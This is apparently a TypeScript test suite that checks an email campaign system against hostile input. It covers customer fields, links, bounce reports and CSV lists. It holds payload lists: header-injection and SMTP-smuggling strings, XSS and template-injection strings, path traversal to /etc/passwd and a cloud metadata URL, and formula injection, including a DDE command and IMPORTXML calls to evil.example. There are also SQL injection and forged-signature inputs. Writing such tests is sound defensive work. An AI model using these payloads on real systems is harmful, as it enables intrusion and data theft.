import { createHash } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { letterOf } from '../../activities/campaign/dispatch/letter-of.ts';
import type { LetterSend } from '../../activities/campaign/letter-composer.ts';
import { createLetterComposer } from '../../activities/campaign/letters/create-letter-composer.ts';
import { createLinks } from '../../activities/campaign/signed-link.ts';
import { ClienteleError } from '../../gateways/errors.ts';
import { claimSends } from '../../gateways/ledger/claim-sends.ts';
import { openLedger, type Ledger } from '../../gateways/ledger/open-ledger.ts';
import { planSends } from '../../gateways/ledger/plan-sends.ts';
import { recordAnswers } from '../../gateways/ledger/record-answers.ts';
import { sendKey } from '../../gateways/ledger/send-key.ts';
import { exportSuppressions, importSuppressions } from '../../gateways/ledger/suppression-file.ts';
import { isSuppressed, suppress } from '../../gateways/ledger/suppressions.ts';
import { createReturnPaths } from '../../gateways/mail/return-path.ts';
import { signReport } from '../../gateways/mail/report-signature.ts';
import { writeMessage } from '../../gateways/mail/write-message.ts';
import { openShopFolder } from '../../gateways/shop-folder/open-shop-folder.ts';
import { mailReportsRoute } from '../../web/routes/mail-reports.ts';
import { unsubscribePage } from '../../web/routes/unsubscribe-page.ts';
import { followLinks } from '../../web/routes/follow-links.ts';

const secret = 'a secret of the shop that nobody knows';
const publicUrl = 'https://mail.demo.example';
const links = createLinks({ publicUrl, secret });
const strangersLinks = createLinks({ publicUrl, secret: 'the secret of somebody else, as long' });
const paths = createReturnPaths({ mailbox: 'bounces@demo.example', secret });
const composer = createLetterComposer({ shops: (name) => openShopFolder('shops', name), links });
const key = sendKey('c', 'ann');
const base: LetterSend = {
  key, customerId: 'ann', address: 'ann@example.org', locale: 'en', arm: 'A', segment: '2', offer: 'Free shipping for regulars', couponCode: 'ABCD-2345',
  variables: { given_name: 'Ann', offer_kind: 'free_shipping', offer_value: 4.9, favourite_category: 'Kitchen', product_1: 'Iron casserole', product_2: null, product_3: null },
};

const headerLines = ['\r\nBcc: victim@example.com', '\nBcc: victim@example.com', '\rBcc: victim@example.com', '\u2028Bcc: victim@example.com', '\u0085Bcc: victim@example.com', '\r\n\r\n<html>', '\0\r\nTo: victim@example.com', '\r\n.\r\nMAIL FROM:<evil@example.com>', '%0d%0aBcc: victim@example.com', '=?UTF-8?B?DQpCY2M6IHZpY3RpbUBleGFtcGxlLmNvbQ==?='];
const markup = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '\'><iframe src=javascript:alert(1)>', '</title><script>alert(1)</script>', '<a href="javascript:alert(1)">x</a>', '<style>*{display:none}</style>', '<!--', ']]><x>', '<base href="https://evil.example/">', '<form action="https://evil.example"><input name=card>', '&lt;script&gt;', '{{ unsubscribe_link }}', '{{ link "https://evil.example" }}', '{% if given_name %}', '${process.env.LINK_SECRET}', '__proto__', 'constructor', '\u202Etxt.exe', '<meta http-equiv=refresh content="0;url=https://evil.example">'];
const paths_ = ['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/passwd', '%2e%2e%2fetc%2fpasswd', 'letters/../../shop.yaml', 'http://169.254.169.254/', 'data:text/html,<script>', 'offer-a\0.mjml', 'CON'];
const formulas = ['=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("https://evil.example")', '\t=1+1', '\r=1+1', '=IMPORTXML("https://evil.example")', '"=1+1'];
const texts = [...headerLines, ...markup, ...paths_, ...formulas];

const headerNames = ['from', 'to', 'subject', 'message-id', 'date', 'list-unsubscribe', 'list-unsubscribe-post', 'list-id', 'feedback-id', 'content-language', 'mime-version', 'content-type'];

/** Tags, attributes and comments of a letter without its texts: what a text may not change. */
const skeleton = (html: string): string => (html.match(/<[!/a-z][^>]*>/gi) ?? []).map((tag) => tag.replace(/(href|src|alt|title)="[^"]*"/g, '$1')).join('');

let tries = 0;
const tried = <Result>(result: Result): Result => {
  tries += 1;
  return result;
};

let root: string;
let ledger: Ledger;
const now = new Date('2026-11-23T09:00:00Z');
const handedOver = sendKey('hostile', 'ann');
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'hostile-'));
  ledger = await openLedger({ folder: join(root, 'ledger') });
  await planSends(ledger, { shop: 'demo', cycle: '2026-W48', campaign: 'hostile', senderDomain: 'demo.example', now, sends: [{ customerId: 'ann', address: 'ann@example.org', locale: 'en', arm: 'A', segment: '1', offer: 'o', page: 0, variables: {} }] });
  await claimSends(ledger, { campaign: 'hostile', page: 0, limit: 10, stoppedArms: [], claimant: 'w', now });
  await recordAnswers(ledger, { claimant: 'w', now, answers: [{ key: handedOver, answer: { outcome: 'accepted', text: '250' } }] });
}, 60_000);
afterAll(async () => {
  await ledger.close();
  await rm(root, { recursive: true, force: true });
});

/** All that the ledger holds, as one hash: what must not change. */
async function ledgerMark(): Promise<string> {
  const rows = await Promise.all(['sends', 'suppressions', 'consents', 'touches', 'bounces', 'coupons'].map((table) => ledger.query(`select * from ${table} order by 1`)));
  return createHash('sha256').update(JSON.stringify(rows)).digest('hex');
}

describe('hostile text in a customer\'s data', () => {
  it.each(['given_name', 'product_1', 'favourite_category'])('as %s changes neither headers nor markup, names no secret, and stays text', async (variable) => {
    const clean = await composer.compose({ shop: 'demo', send: base });
    for (const text of texts) {
      const composed = tried(await composer.compose({ shop: 'demo', send: { ...base, variables: { ...base.variables, [variable]: text } } }));
      const message = await writeMessage(letterOf(composed, { key, address: base.address, messageId: `<${key}@demo.example>` }, paths.of));
      const mail = await simpleParser(message);
      expect(mail.headerLines.map(({ key: name }) => name).sort(), text).toEqual([...headerNames].sort());
      expect([mail.bcc, mail.cc, mail.attachments.length]).toEqual([undefined, undefined, 0]);
      expect(mail.to).toMatchObject({ value: [{ address: 'ann@example.org' }] });
      expect(skeleton(composed.html), text).toBe(skeleton(clean.html));
      expect(message.toString('utf8')).not.toContain(secret);
      // Every link of ours still leads where the letter's author said.
      for (const [link] of composed.html.matchAll(/https?:\/\/mail\.demo\.example\/c\/[^"\s]+/g)) expect(Buffer.from(new URL(link).searchParams.get('to')!, 'base64url').toString()).toMatch(/^https:\/\/shop\.example\//);
    }
  });

  it('as an address, a Message-ID or a header is refused before anything is written', async () => {
    const composed = await composer.compose({ shop: 'demo', send: base });
    for (const text of headerLines.slice(0, 8)) {
      for (const change of [{ address: `ann@example.org${text}` }, { address: `${text}ann@example.org` }, { messageId: `<${key}@demo.example>${text}` }]) {
        const letter = tried(letterOf(composed, { key, address: base.address, messageId: `<${key}@demo.example>`, ...change }, paths.of));
        await expect(writeMessage(letter), JSON.stringify(change)).rejects.toThrow(RangeError);
      }
    }
    for (const address of ['a@b@c.example', '<ann@example.org>', 'ann@example.org,bob@example.org', 'ann@example.org;bob@example.org', '"a b"@example.org', 'ann@', '@example.org', '']) {
      await expect(writeMessage(tried(letterOf(composed, { key, address, messageId: `<${key}@demo.example>` }))), address).rejects.toThrow(RangeError);
    }
  });

  it('as a locale or an arm reads no other file', async () => {
    for (const text of paths_) {
      const composed = tried(await composer.compose({ shop: 'demo', send: { ...base, locale: text } }));
      expect(composed.headers['Content-Language']).toBe('en');
      await expect(composer.compose({ shop: 'demo', send: { ...base, arm: text } })).rejects.toThrow(ClienteleError);
      await expect(composer.compose({ shop: text, send: base })).rejects.toMatchObject({ code: 'SHOP_NOT_FOUND' });
    }
  });
});

describe('hostile requests', () => {
  const parts = { ledger, links, clock: () => now, shops: (name: string) => openShopFolder('shops', name), onError: () => undefined };

  it('with forged links change nothing and lead nowhere', async () => {
    const app = [unsubscribePage, followLinks].map((make) => {
      const routes = make({ ...parts, ledger } as unknown as Parameters<typeof unsubscribePage>[0]);
      // As the whole application answers.
      routes.onError((error, context) => context.text('', error instanceof ClienteleError && error.code === 'LINK_INVALID' ? 404 : 500));
      return routes;
    });
    const before = await ledgerMark();
    const [good, other] = [new URL(links.unsubscribe(handedOver)).pathname, new URL(strangersLinks.unsubscribe(handedOver)).pathname];
    const signature = good.slice(good.lastIndexOf('/') + 1);
    const click = new URL(links.click(handedOver, 'https://shop.example/'));
    const forged = [
      other, good.slice(0, -1), `${good}A`, good.replace(signature, signature.toUpperCase()), good.replace(handedOver, sendKey('hostile', 'bob')), good.replace(signature, ''), good.replace(signature, 'null'), good.replace(signature, encodeURIComponent('\' or 1=1 --')),
      `/u/${handedOver}/${new URL(links.pixel(handedOver)).pathname.split('/').at(-1)?.replace('.gif', '')}`, `/u/${encodeURIComponent('../x')}/${signature}`, `/u/__proto__/${signature}`, `/u/${'a'.repeat(5000)}/${signature}`,
    ];
    for (const path of forged) {
      for (const one of app) {
        const response = await Promise.resolve(one.request(path, { method: 'POST', body: 'List-Unsubscribe=One-Click', headers: { 'content-type': 'application/x-www-form-urlencoded' } }));
        expect(tried(response.status), path).toBe(404);
      }
    }
    for (const to of ['https://evil.example/', '//evil.example', 'javascript:alert(1)', 'https://shop.example@evil.example/', 'https://shop.example/\r\nSet-Cookie: a=b', '']) {
      const response = await app[1]!.request(`${click.pathname}?to=${Buffer.from(to).toString('base64url')}`);
      expect(tried(response.status), to).toBe(404);
      expect(response.headers.get('location')).toBeNull();
    }
    // A genuine link by GET and HEAD: it asks, and changes nothing.
    for (const method of ['GET', 'HEAD']) expect((await app[0]!.request(good, { method })).status).toBe(200);
    expect(await ledgerMark()).toBe(before);
  });

  it('that report bounces without our relay\'s signature, or its signature again later, change nothing', async () => {
    const reportsSecret = 'a secret between the relay and the shop';
    const app = mailReportsRoute({ ledger, links, clock: () => now, returnPaths: paths, reportsSecret });
    const before = await ledgerMark();
    const body = Buffer.from(JSON.stringify({ events: [{ type: 'complaint', message_id: `<${handedOver}@demo.example>` }] }));
    const at = (seconds: number): string => signReport(reportsSecret, new Date(now.getTime() + seconds * 1000), body);
    const signatures = ['', 't=1', at(-301), at(301), at(-86_400), at(0).replace(/.$/, (digit) => (digit === '0' ? '1' : '0')), at(0).replace(/t=\d+/, 't=0'), `${at(0)},v1=${'0'.repeat(64)}`, signReport(secret, now, body), signReport(reportsSecret, now, Buffer.from('{}')), at(0).toUpperCase(), 't=NaN,v1=x'];
    for (const signature of signatures) {
      const response = await app.request('/mail/reports', { method: 'POST', body: new Uint8Array(body), headers: { 'content-type': 'application/json', 'x-signature': signature } });
      expect(tried(response.status), signature).toBe(401);
      expect(await response.text()).not.toContain(reportsSecret);
    }
    for (const content of ['', '{', '[]', '{"events":[]}', '{"events":[{"type":"x"}]}', JSON.stringify({ events: [{ type: 'bounce', message_id: '<../../x@y>' }] }), JSON.stringify({ events: [{ type: 'bounce', message_id: `<${handedOver}@demo.example>`, status: '5.1.1\'; drop table sends' }] }), JSON.stringify({ __proto__: { events: [] } })]) {
      const bytes = Buffer.from(content);
      const response = await app.request('/mail/reports', { method: 'POST', body: new Uint8Array(bytes), headers: { 'content-type': 'application/json', 'x-signature': signReport(reportsSecret, now, bytes) } });
      expect(tried(response.status), content).toBe(400);
    }
    expect(await ledgerMark()).toBe(before);
  });

  it('for bounces of addresses that were never ours find no send', () => {
    const genuine = paths.of(handedOver);
    for (const address of ['', '@', genuine.replace('+', ''), genuine.replace('@', '@evil.'), `${genuine}.evil.example`, genuine.replace(/[0-9a-f]{12}@/, '000000000000@'), genuine.replace('bounces+', 'bounces+x'), `${genuine}\r\n`.repeat(2), createReturnPaths({ mailbox: 'bounces@demo.example', secret: 'another' }).of(handedOver)]) {
      expect(tried(paths.read(address)), address).toBeUndefined();
    }
  });
});

describe('hostile cells in lists', () => {
  it('leave as text that no spreadsheet runs, and come back as they were', async () => {
    const reasons = formulas.map((formula) => formula.replaceAll(/[\t\r]/g, ''));
    await suppress(ledger, formulas.map((_, place) => ({ shop: 'list', address: `${['=', '+', '-', '@'][place % 4] === '@' ? '' : ['=', '+', '-'][place % 3]}p${place}@example.org`, reason: reasons[place]!, source: 'test', at: now })));
    let csv = '';
    for await (const lines of exportSuppressions(ledger, 'list', 3)) csv += lines;
    const cells = csv.split('\n').slice(1).filter((line) => line !== '').flatMap((line) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell!));
    expect(cells).toHaveLength(formulas.length * 4);
    for (const cell of cells) expect(tried(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(await importSuppressions(ledger, csv.split('\n'), { shop: 'copy', reason: 'imported', source: 'import', now })).toEqual({ read: formulas.length, refused: [] });
    const both = await ledger.query<{ shop: string; list: string }>(`select shop, string_agg(address || ' ' || reason, ';' order by address) as list from suppressions where shop in ('list', 'copy') group by shop`);
    expect(new Set(both.map(({ list }) => list)).size).toBe(1);
  });

  it('that are no addresses are refused by their line, the others are taken', async () => {
    const lines = ['email,reason', 'good@example.org,left', 'not an address,x', 'a@b,x', '=1+1,x', '"quoted@example.org","said ""no"""', '', 'two@example.org;three@example.org', '\'+plus@example.org,x'];
    expect(tried(await importSuppressions(ledger, lines, { shop: 'import', reason: 'imported', source: 'import', now, size: 2 }))).toEqual({ read: 3, refused: [3, 4, 5, 8] });
    for (const address of ['good@example.org', 'QUOTED@example.org', '+plus@example.org']) expect(await isSuppressed(ledger, { shop: 'import', address })).toBe(true);
    expect(await ledger.query('select address, reason from suppressions where shop = $1 order by address', ['import'])).toEqual([{ address: '+plus@example.org', reason: 'x' }, { address: 'good@example.org', reason: 'left' }, { address: 'quoted@example.org', reason: 'said "no"' }]);
  });
});

it('all of them were more than 200, and none left a file', async () => {
  expect(tries).toBeGreaterThan(200);
  expect(await readdir(root)).toEqual(['ledger']);
});
